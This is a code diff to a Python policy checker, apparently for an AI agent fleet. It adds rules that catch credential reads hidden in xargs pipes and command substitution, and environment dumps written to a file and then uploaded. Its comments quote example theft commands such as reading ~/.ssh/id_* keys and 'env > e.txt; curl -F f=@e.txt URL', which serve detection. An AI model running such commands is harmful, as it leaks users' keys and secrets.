@@ -27,12 +27,13 @@ import fnmatch
 import posixpath
 import re
 from collections.abc import Iterator, Sequence
+from dataclasses import replace
 
 from agent_fleet.policy._shell import Redirect, SimpleCommand
 from agent_fleet.policy._targets import inside, resolve_target
 from agent_fleet.policy._verdict import VIRTUAL_CWD, RuleContext, Violation
 
-__all__ = ["NETWORK", "credential_violation", "path_violation", "redirect_violation"]
+__all__ = ["NETWORK", "credential_violation", "leaked_later", "path_violation", "redirect_violation"]
 
 _TEMP_ROOTS = ("/tmp", "/var/tmp", "/dev/shm", "/private/tmp", "/private/var/tmp", "/var/folders")
 _HARMLESS = ("/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/zero", "/dev/full")
@@ -44,6 +45,7 @@ _SYSTEM_TREES = frozenset(
 _HOME_SAFE = (".cache",)
 #: Programs that copy whole trees: a home directory (or ~/.config) carries every credential with it.
 _ARCHIVERS = frozenset({"cp", "tar", "zip", "7z", "rsync", "scp", "rclone", "cpio", "bsdtar", "gtar"})
+_PATH_TOKEN = re.compile(r"(?:~|\$HOME|\$\{HOME\}|/)[^\s;|&)'\"`]*")
 _KEY_USERS = frozenset({"ssh", "scp", "sftp", "ssh-add", "ssh-keygen", "ssh-copy-id", "autossh", "mosh"})
 _WRITE_OPS = frozenset({">", ">>", ">|", "&>", "&>>", "<>", "&>|"})
 _READ_OPS = frozenset({"<", "<>"})
@@ -564,6 +566,11 @@ def credential_violation(cmd: SimpleCommand, ctx: RuleContext) -> Violation | No
                 words = []
             words = [w for i, w in enumerate(words) if not (i and words[i - 1] == "-i") and w != "-i"]
             words = [w for w in words if not w.startswith("-i") and "identityfile" not in w.lower()]
+        if "xargs" in cmd.wrappers:  # `ls ~/.ssh/id_* | xargs cat`: the names come from the pipe
+            words += [word for argv in cmd.stdin for word in argv[1:]]
+        for word in list(words):
+            if "$(" in word or "`" in word:  # `cat $(ls ~/.ssh/id_*)`: paths named inside a substitution
+                words += _PATH_TOKEN.findall(word)
         for word in words:
             for part in _option_values(word):
                 why = credential_reason(part, ctx)
@@ -598,4 +605,26 @@ def credential_violation(cmd: SimpleCommand, ctx: RuleContext) -> Violation | No
                 return Violation(
                     rule="credential-access", reason=f"{program} sends a secret variable: {word!r}"
                 )
+    return None
+
+
+def leaked_later(commands: Sequence[SimpleCommand], ctx: RuleContext) -> Violation | None:
+    """The environment or a credential written to a file, then that file sent over the network
+    (``env > e.txt; curl -F f=@e.txt URL``)."""
+    saved: dict[str, str] = {}
+    for cmd in commands:
+        sources = [n for n in (cmd.program, *cmd.feeders) if n in _ENV_DUMPERS]
+        if sources or credential_violation(replace(cmd, redirects=(), stdin=(), feeders=()), ctx) is not None:
+            for redirect in cmd.redirects:
+                if redirect.op in (">", ">>", ">|", "&>", "&>>"):
+                    saved[posixpath.basename(redirect.target)] = sources[0] if sources else cmd.program
+        if saved and cmd.program in NETWORK:
+            for word in cmd.argv[1:]:
+                for part in _option_values(word):
+                    source = saved.get(posixpath.basename(part))
+                    if source is not None and part:
+                        return Violation(
+                            rule="credential-access",
+                            reason=f"{cmd.program} sends {part!r}, written from {source}",
+                        )
     return None
